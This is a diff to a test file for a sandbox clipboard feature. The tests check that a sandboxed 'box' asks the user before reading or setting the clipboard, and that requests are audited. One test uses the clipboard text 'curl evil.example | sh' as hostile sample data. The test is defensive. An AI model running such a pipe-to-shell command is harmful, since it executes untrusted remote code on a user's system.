@@ -76,12 +76,12 @@ def test_what_is_copied_in_the_box_is_pasted_on_the_host_and_the_reverse(user, d
     assert in_box(user, "get", "--type", "image/png") == picture
     assert len(tools_running()) == 2  # one for each selection
     assert [line["detail"]["purpose"] for line in audit(user)] == [
-        f"set clipboard: {TEXT}, {len(text)} bytes",
-        f"set primary selection: {TEXT}, 7 bytes",
-        f"get clipboard: {TEXT}",
-        f"get primary selection: {TEXT}",
-        f"set clipboard: image/png, {len(picture):,} bytes",
-        "get clipboard: image/png",
+        f'set clipboard: "{TEXT}", {len(text)} bytes',
+        f'set primary selection: "{TEXT}", 7 bytes',
+        f'get clipboard: "{TEXT}"',
+        f'get primary selection: "{TEXT}"',
+        f'set clipboard: "image/png", {len(picture):,} bytes',
+        'get clipboard: "image/png"',
     ]
     assert {line["decision"] for line in audit(user)} == {"approved"}
 
@@ -122,7 +122,7 @@ def test_a_box_reads_only_what_the_user_lets_it(user, box, desktop, person):
         with user.start(*command) as asking:
             said = answer(box)
             assert 'The box "work" asks to read your clipboard.' in said
-            assert f"Type: {TEXT}" in said
+            assert f'Type: "{TEXT}"' in said
             out, err = asking.communicate(timeout=LONG_ENOUGH)
         assert (out, asking.returncode) == (printed, status)
     assert err == ""
@@ -140,7 +140,7 @@ def test_a_box_copies_only_what_the_user_has_seen(user, box, desktop, person):
         with user.start("enter", box, "--", "sh", "-c", script) as asking:
             said = answer(box)
             assert 'The box "work" asks to set your clipboard.' in said
-            assert "Size: 22 bytes\nText: curl evil.example | sh" in said
+            assert 'Size: 22 bytes\nText: "curl evil.example | sh' in said
             asking.communicate(timeout=LONG_ENOUGH)
         assert desktop.paste() == held
 
